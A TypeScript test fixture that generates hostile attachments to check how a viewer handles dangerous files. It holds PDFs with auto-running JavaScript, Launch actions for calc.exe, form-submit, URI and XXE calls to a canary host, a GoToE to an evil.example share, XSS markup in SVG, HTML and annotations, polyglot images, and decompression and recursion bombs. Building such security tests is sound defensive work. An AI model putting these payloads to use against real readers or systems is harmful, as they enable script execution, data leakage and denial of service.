import { deflateSync } from 'node:zlib';

interface HostileFile {
  readonly name: string;
  readonly bytes: Uint8Array;
}

const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A page with a black square, with whatever else in catalog, page and objects; without a table, as readers repair it. */
function pdf(given: {
  readonly catalog?: string;
  readonly page?: string;
  readonly box?: string;
  readonly objects?: readonly (string | Buffer)[];
  readonly content?: Buffer;
  readonly trailer?: string;
  readonly before?: string;
}): Uint8Array {
  const content = given.content ?? latin1('0 0 100 100 re f');
  return new Uint8Array(
    Buffer.concat([
      latin1(
        `${given.before ?? ''}%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${given.catalog ?? ''} >>\nendobj\n`,
      ),
      latin1('2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n'),
      latin1(
        `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [${given.box ?? '0 0 300 300'}] /Contents 4 0 R ${given.page ?? ''} >>\nendobj\n`,
      ),
      stream(4, given.content === undefined ? '' : '/Filter /FlateDecode', content),
      ...(given.objects ?? []).map((one) => (typeof one === 'string' ? latin1(`${one}\n`) : one)),
      latin1(`trailer\n<< /Root 1 0 R ${given.trailer ?? ''} >>\n%%EOF\n`),
    ]),
  );
}

function stream(number: number, dictionary: string, data: Buffer): Buffer {
  return Buffer.concat([
    latin1(`${number} 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    latin1('\nendstream\nendobj\n'),
  ]);
}

function png(width: number, height: number, more = Buffer.of()): Buffer {
  const header = Buffer.alloc(25);
  header.writeUInt32BE(13);
  header.write('IHDR', 4);
  header.writeUInt32BE(width, 8);
  header.writeUInt32BE(height, 12);
  header.set([8, 2, 0, 0, 0], 16);
  return Buffer.concat([latin1('\x89PNG\r\n\x1a\n'), header, more, latin1('\0\0\0\0IEND\xaeB`\x82')]);
}

function jpeg(width: number, height: number, comment = ''): Buffer {
  const frame = Buffer.from([0xff, 0xc0, 0, 11, 8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]);
  const size = Buffer.alloc(2);
  size.writeUInt16BE(comment.length + 2);
  return Buffer.concat([
    latin1('\xff\xd8\xff\xfe'),
    size,
    latin1(comment),
    frame,
    latin1('\xff\xda\0\x08\x01\x01\0\0?\0ab\xff\xd9'),
  ]);
}

function numbered(count: number, of: (n: number) => string): string {
  return Array.from({ length: count }, (_, n) => of(n + 100)).join('\n');
}

/** Files that somebody might attach to do harm to who looks at them; `canary` is an address that nothing may ask. */
export function hostileAttachments(canary: string): readonly HostileFile[] {
  const script = `app.alert(1); app.launchURL('${canary}/launch', true); this.submitForm('${canary}/form'); eval("1")`;
  const js = `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, '\\$&')}) >>`;
  const markup = `<script>document.title='hit';fetch('${canary}/script')</script><img src="${canary}/img" onerror="alert(1)">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${canary}/svg')"><image href="${canary}/href"/><script>top.document.title='hit'</script></svg>`;
  const annotation = (of: string) =>
    pdf({ page: '/Annots [5 0 R]', objects: [`5 0 obj\n<< /Type /Annot /Rect [0 0 300 300] ${of} >>\nendobj`] });
  const field = (of: string, value = '') =>
    pdf({
      catalog: `/AcroForm << /Fields [5 0 R] /NeedAppearances true ${of} >>`,
      page: '/Annots [5 0 R]',
      objects: [
        `5 0 obj\n<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (${value}) /Rect [10 10 200 40] /AA << /K ${js} /F ${js} /Fo ${js} >> >>\nendobj`,
      ],
    });
  const picture = (dictionary: string, data: Buffer) =>
    pdf({
      page: '/Resources << /XObject << /I 5 0 R >> >>',
      content: deflateSync(latin1('300 0 0 300 0 0 cm /I Do')),
      objects: [stream(5, `/Type /XObject /Subtype /Image ${dictionary}`, data)],
    });
  const font = (of: string, more = '') =>
    pdf({
      page: '/Resources << /Font << /F 5 0 R >> >>',
      content: deflateSync(latin1('BT /F 24 Tf 10 100 Td (abc) Tj ET')),
      objects: [`5 0 obj\n<< /Type /Font ${of} >>\nendobj`, more],
    });
  const files: Readonly<Record<string, Uint8Array>> = {
    'a script when it opens': pdf({ catalog: `/OpenAction ${js}` }),
    'a script by its name': pdf({ catalog: `/Names << /JavaScript << /Names [(a) ${js}] >> >>` }),
    'a script when it closes': pdf({ catalog: `/AA << /WC ${js} /DP ${js} /WP ${js} >>` }),
    'a script of the page': pdf({ page: `/AA << /O ${js} /C ${js} >>` }),
    'a script in a link': annotation(`/Subtype /Link /A ${js}`),
    'a script in a hidden name': pdf({
      catalog: `/OpenAction << /S /J#61vaScript /JS 5 0 R >>`,
      objects: [stream(5, '', latin1(script))],
    }),
    'a script in a field': field(''),
    'a script that calculates': field('/CO [5 0 R]'),
    'a program to start': pdf({ catalog: '/OpenAction << /S /Launch /Win << /F (calc.exe) >> /F (calc.exe) >>' }),
    'a program to start by a link': annotation('/Subtype /Link /A << /S /Launch /F (calc.exe) >>'),
    'an address when it opens': pdf({ catalog: `/OpenAction << /S /URI /URI (${canary}/open) >>` }),
    'an address over the page': annotation(`/Subtype /Link /A << /S /URI /URI (${canary}/link) >>`),
    'an address of a script': annotation('/Subtype /Link /A << /S /URI /URI (javascript:alert\\(1\\)) >>'),
    'a base address': pdf({ catalog: `/URI << /Base (${canary}/base) >>` }),
    'a form that sends': pdf({ catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${canary}/submit) >> >>` }),
    'data that it takes in': pdf({ catalog: `/OpenAction << /S /ImportData /F (${canary}/data.fdf) >>` }),
    'another file to go to': pdf({ catalog: `/OpenAction << /S /GoToR /F (${canary}/other.pdf) /D [0 /Fit] >>` }),
    'a file on a share': pdf({ catalog: '/OpenAction << /S /GoToE /F (\\\\\\\\evil.example\\\\share) /D [0 /Fit] >>' }),
    'another file in it': pdf({
      catalog: '/Names << /EmbeddedFiles << /Names [(a) 5 0 R] >> >>',
      objects: [
        '5 0 obj\n<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>\nendobj',
        stream(6, '/Type /EmbeddedFile', latin1('MZ')),
      ],
    }),
    'a film': annotation(
      `/Subtype /RichMedia /RichMediaContent << /Assets << /Names [(a) << /F (${canary}/film) >>] >> >>`,
    ),
    'a screen': annotation(
      `/Subtype /Screen /A << /S /Rendition /OP 0 /R << /S /MR /C << /D << /FS /URL /F (${canary}/r) >> >> >> >>`,
    ),
    'a film of another kind': annotation(`/Subtype /Movie /Movie << /F (${canary}/movie) >>`),
    'markup in a note': annotation(
      `/Subtype /FreeText /Contents (${markup.replace(/[()\\]/g, '\\$&')}) /DA (/Helv 12 Tf)`,
    ),
    'markup in a rich text': annotation(
      `/Subtype /Popup /RC (<body xmlns="http://www.w3.org/1999/xhtml">${markup.replace(/[()\\]/g, '\\$&')}</body>)`,
    ),
    'XFA with a script': pdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      objects: [
        stream(
          5,
          '',
          latin1(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">${script}</script></event><draw><value><image href="${canary}/xfa"/></value></draw></subform></template></xdp:xdp>`,
          ),
        ),
      ],
    }),
    'XFA with another file': pdf({
      catalog: '/AcroForm << /Fields [] /XFA 5 0 R >>',
      objects: [
        stream(5, '', latin1(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "${canary}/xxe">]><a>&b;</a>`)),
      ],
    }),
    'a lock': pdf({
      trailer: `/ID [<00><00>] /Encrypt << /Filter /Standard /V 1 /R 2 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> /P -4 >>`,
    }),
    'a stream that lies elsewhere': pdf({
      page: '/Resources << /XObject << /I 5 0 R >> >>',
      content: deflateSync(latin1('/I Do')),
      objects: [
        stream(
          5,
          `/Type /XObject /Subtype /Image /Width 1 /Height 1 /F << /FS /URL /F (${canary}/stream) >>`,
          Buffer.of(),
        ),
      ],
    }),
    'a page that refers to another file': pdf({
      page: '/Resources << /XObject << /I 5 0 R >> >>',
      content: deflateSync(latin1('/I Do')),
      objects: [
        stream(5, `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (${canary}/ref) /Page 0 >>`, Buffer.of()),
      ],
    }),
    'a font with a program for a matrix': font(
      `/Subtype /Type1 /BaseFont /A /FontMatrix [1 2 3 4 5 (0\\); fetch\\('${canary}/font'\\); //)] /FontDescriptor 6 0 R /FirstChar 97 /LastChar 99 /Widths [500 500 500]`,
      '6 0 obj\n<< /Type /FontDescriptor /FontName /A /FontFile 7 0 R >>\nendobj\n7 0 obj\n<< /Length 3 >>\nstream\nabc\nendstream\nendobj',
    ),
    'a font that is not there': font(
      `/Subtype /Type0 /BaseFont /../../session /Encoding /..#2f..#2fstaff#2fsession /DescendantFonts [6 0 R]`,
      '6 0 obj\n<< /Type /Font /Subtype /CIDFontType0 /BaseFont /A /CIDSystemInfo << /Registry (../) /Ordering (../x) /Supplement 1 >> >>\nendobj',
    ),
    'a font of markup': font(`/Subtype /TrueType /BaseFont /${markup.replace(/[^a-z]/g, '#20')}`),
    'a picture that is huge': picture(
      '/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB',
      Buffer.alloc(9),
    ),
    'a picture of noise, JPX': picture('/Width 9 /Height 9 /Filter /JPXDecode', Buffer.alloc(900, 7)),
    'a picture of noise, JBIG2': picture(
      '/Width 9 /Height 9 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode',
      Buffer.alloc(900, 7),
    ),
    'a picture of noise, DCT': picture(
      '/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode',
      jpeg(65_500, 65_500),
    ),
    'a page as large as a country': pdf({ box: '0 0 100000000 100000000' }),
    'a page as long as a road': pdf({ box: '0 0 1 10000000' }),
    'a page of no size': pdf({ box: '0 0 0 0' }),
    'a page that is no page': pdf({ box: '(a) null /b 1e999' }),
    'a scale that is none': pdf({ page: '/UserUnit 1e30' }),
    'pages in a circle': Buffer.concat([
      latin1('%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n'),
      latin1(
        '2 0 obj\n<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 100000 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
      ),
    ]),
    'more pages than anybody reads': pdf({
      objects: [
        `2 0 obj\n<< /Type /Pages /Kids [${numbered(300, (n) => `${n} 0 R`)}] /Count 300 >>\nendobj`,
        numbered(300, (n) => `${n} 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj`),
      ],
    }),
    'arrays in arrays': pdf({ catalog: `/A ${'['.repeat(50_000)}${']'.repeat(50_000)}` }),
    'a form that draws itself': pdf({
      page: '/Resources << /XObject << /I 5 0 R >> >>',
      content: deflateSync(latin1('/I Do')),
      objects: [
        stream(
          5,
          '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /I 5 0 R >> >>',
          latin1('/I Do /I Do'),
        ),
      ],
    }),
    'a drawing without an end': pdf({ content: deflateSync(latin1('0 0 m 300 300 l S '.repeat(2_000_000))) }),
    'a stream that unpacks to very much': pdf({ content: deflateSync(Buffer.alloc(150_000_000, 0x20)) }),
    'a function that runs long': pdf({
      page: '/Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Function 5 0 R >> >> >>',
      content: deflateSync(latin1('300 0 0 300 0 0 cm /S sh')),
      objects: [
        stream(5, '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]', latin1(`{ ${'dup mul sin '.repeat(20_000)} pop }`)),
      ],
    }),
    'nothing but a head': latin1('%PDF-1.7\n'),
    'noise behind a head': Buffer.concat([latin1('%PDF-1.7\n'), Buffer.alloc(50_000, 0xa7), latin1('%%EOF')]),
    'a PDF that is a page of the web': pdf({ before: `<!-- ${markup} -->\n` }),
    'a page of the web that is a PDF': Buffer.concat([latin1(`${markup}\n`), pdf({})]),
    'a PDF that is a ZIP': Buffer.concat([pdf({}), latin1('PK\x05\x06'), Buffer.alloc(18)]),
    'a picture that is a page of the web': jpeg(8, 8, `--><html>${markup}`),
    'a picture with a page behind it': Buffer.concat([png(8, 8), latin1(markup)]),
    'a picture that is a PDF': Buffer.concat([png(8, 8, latin1('\0\0\0\0')), pdf({ catalog: `/OpenAction ${js}` })]),
    'a PNG as large as a country': png(100_000, 100_000),
    'a PNG of no size': png(0, 0),
    'a PNG that was cut': png(8, 8).subarray(0, 30),
    'a PNG with more than it says': png(4_000, 4_000, Buffer.alloc(500_000, 1)),
    'a JPEG as large as it can be': jpeg(65_535, 65_535),
    'a JPEG with two sizes': Buffer.concat([jpeg(1, 1).subarray(0, 19), jpeg(65_535, 65_535).subarray(2)]),
    'a JPEG that was cut': jpeg(8, 8).subarray(0, 12),
    'a JPEG whose segment has no end': latin1('\xff\xd8\xff\xe1\0\0\0\0\0\0\0\0\0\0\0\0'),
    'an SVG': latin1(svg),
    'an SVG in UTF-16': Buffer.from(`\ufeff${svg}`, 'utf16le'),
    'a page of the web': latin1(`<!doctype html>${markup}`),
    'a page with a mark of another picture': latin1(`GIF89a=1;/*${markup}*/`),
    'a HEIC': latin1('\0\0\0\x18ftypheic\0\0\0\0mif1heic'),
    'a program': latin1('MZ\x90\0'),
    'a single zero': Buffer.of(0),
  };
  return Object.entries(files).map(([name, bytes]) => ({ name, bytes: new Uint8Array(bytes) }));
}
